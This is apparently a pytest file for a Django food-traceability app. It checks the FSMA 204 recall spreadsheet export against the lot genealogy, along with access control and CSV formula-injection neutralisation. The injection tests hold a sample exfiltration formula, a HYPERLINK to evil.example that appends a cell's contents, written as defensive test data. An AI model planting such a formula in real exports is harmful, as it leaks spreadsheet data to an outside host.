"""The FSMA 204 sortable spreadsheet (GET /api/recall/{code}?format=fsma204), read back with the
csv module and checked row by row against the genealogy; formula injection in every CSV."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient

from accounts.roles import Role
from flowviz.core.spreadsheets import file_name_part, spreadsheet_cell
from flowviz.production.models import ProductionRun
from lots.fsma import COLUMNS
from lots.models import Lot, LotGenealogy, LotType
from tests.api_support import bearer, demo_user

pytestmark = pytest.mark.django_db


async def _download(url: str, headers: dict[str, str]):
    # Streamed through ASGI, as in production.
    response = await AsyncClient().get(url, headers={"Authorization": headers["HTTP_AUTHORIZATION"]})
    if not response.streaming:
        return response, response.content
    return response, b"".join([chunk async for chunk in response.streaming_content])


def download(url: str, role: str = Role.AUDITOR):
    return async_to_sync(_download)(url, bearer(demo_user(role)))


def fsma_rows(code: str) -> list[dict[str, str]]:
    response, content = download(f"/api/recall/{code}?format=fsma204")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="fsma204-{file_name_part(code)}.csv"'
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for Excel
    reader = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert header == list(COLUMNS)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_every_lot_of_the_genealogy_both_ways_is_one_event_and_inputs_are_rows(demo, settings):
    settings.FACILITY_NAME = "Döner Kft."
    settings.FACILITY_ADDRESS = "1 Vágóhíd utca, Budapest, HU"
    run = ProductionRun.objects.create(run_code="PRD-20260118-A")
    Lot.objects.filter(lot_code="MIX-BATCH-88").update(production_run=run)
    rows = fsma_rows("MIX-BATCH-88")
    # The genealogy of the mix both ways: the two raw lots, the mix, the finished good.
    lots = {lot.lot_code: lot for lot in Lot.objects.select_related("production_run")}
    expected = []
    for lot in lots.values():
        inputs = LotGenealogy.objects.filter(child_lot=lot).select_related("parent_lot")
        own = {
            "Traceability Lot Code": lot.lot_code,
            "Product Description": LotType(lot.lot_type).label,
            "Quantity": f"{lot.weight_kg:.2f}",
            "Unit of Measure": "kg",
            "Location Description": "Döner Kft., 1 Vágóhíd utca, Budapest, HU",
            "Event Date": lot.created_at.date().isoformat(),
            "Reference Document Type": "Production run" if lot.production_run else "Lot record",
            "Reference Document Number": lot.production_run.run_code if lot.production_run else str(lot.pk),
        }
        if not inputs:
            expected.append(
                {
                    "Critical Tracking Event": "Receiving",
                    **own,
                    "Input Traceability Lot Code": "",
                    "Input Product Description": "",
                    "Input Quantity Used": "",
                    "Input Unit of Measure": "",
                }
            )
        for link in inputs:
            expected.append(
                {
                    "Critical Tracking Event": "Transformation",
                    **own,
                    "Input Traceability Lot Code": link.parent_lot.lot_code,
                    "Input Product Description": LotType(link.parent_lot.lot_type).label,
                    "Input Quantity Used": f"{link.quantity_used_kg:.2f}",
                    "Input Unit of Measure": "kg",
                }
            )
    key = ("Event Date", "Traceability Lot Code", "Input Traceability Lot Code")
    assert sorted(rows, key=lambda row: [row[k] for k in key]) == rows  # sorted as documented
    assert rows == sorted(expected, key=lambda row: [row[k] for k in key])
    assert len(rows) == 5  # 2 receivings, the mix from 2 inputs, the finished good from 1


def test_a_transformation_lists_every_input_even_outside_the_genealogy_asked_about(demo):
    # FG-DONER-X1 is made from the mix and, here, from a second mix unrelated to RAW-SPICE-001.
    other = Lot.objects.create(lot_code="MIX-OTHER", lot_type=LotType.MIX, weight_kg=Decimal("20.00"))
    LotGenealogy.objects.create(
        parent_lot=other, child_lot=Lot.objects.get(lot_code="FG-DONER-X1"), quantity_used_kg=Decimal("5.00")
    )
    rows = fsma_rows("RAW-SPICE-001")
    fg_inputs = {
        row["Input Traceability Lot Code"]: row["Input Quantity Used"]
        for row in rows
        if row["Traceability Lot Code"] == "FG-DONER-X1"
    }
    assert fg_inputs == {"MIX-BATCH-88": "530.00", "MIX-OTHER": "5.00"}
    # The genealogy of the spice goes down only: the beef is not in it, nor MIX-OTHER's event.
    assert {row["Traceability Lot Code"] for row in rows} == {"RAW-SPICE-001", "MIX-BATCH-88", "FG-DONER-X1"}


def test_unknown_weights_are_left_empty(demo):
    Lot.objects.filter(lot_code="RAW-SPICE-001").update(weight_kg=None)
    [spice] = [row for row in fsma_rows("RAW-SPICE-001") if row["Traceability Lot Code"] == "RAW-SPICE-001"]
    assert (spice["Quantity"], spice["Unit of Measure"]) == ("", "")


@pytest.mark.parametrize(("role", "status"), [(Role.ADMIN, 200), (Role.MANAGER, 200), (Role.OPERATOR, 403)])
def test_the_spreadsheet_is_for_admins_managers_and_auditors(demo, role, status):
    response, _ = download("/api/recall/MIX-BATCH-88?format=fsma204", role)
    assert response.status_code == status


def test_the_spreadsheet_of_an_unknown_lot_is_404(demo):
    response, _ = download("/api/recall/NOPE?format=fsma204")
    assert response.status_code == 404


# --- Formula injection: one guard for every CSV ------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(start):
    assert spreadsheet_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("text", ["RAW-1", "12.50", "", "a=b", "'quoted"])
def test_other_cells_are_left_as_they_are(text):
    assert spreadsheet_cell(text) == text


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_lot_codes_are_neutralized_in_the_recall_csv_and_the_fsma_spreadsheet(demo):
    evil = Lot.objects.create(lot_code=EVIL, lot_type=LotType.FG, weight_kg=Decimal("1.00"))
    plus = Lot.objects.create(lot_code="+RAW", lot_type=LotType.RAW, weight_kg=Decimal("2.00"))
    LotGenealogy.objects.create(parent_lot=plus, child_lot=evil, quantity_used_kg=Decimal("1.00"))
    _, recall = download("/api/recall/+RAW?format=csv")
    [row] = list(csv.DictReader(io.StringIO(recall.decode(), newline="")))
    assert row["lot_code"] == "'" + EVIL
    rows = fsma_rows("+RAW")
    assert {row["Traceability Lot Code"] for row in rows} == {"'+RAW", "'" + EVIL}
    assert [row["Input Traceability Lot Code"] for row in rows if row["Input Traceability Lot Code"]] == [
        "'+RAW"
    ]
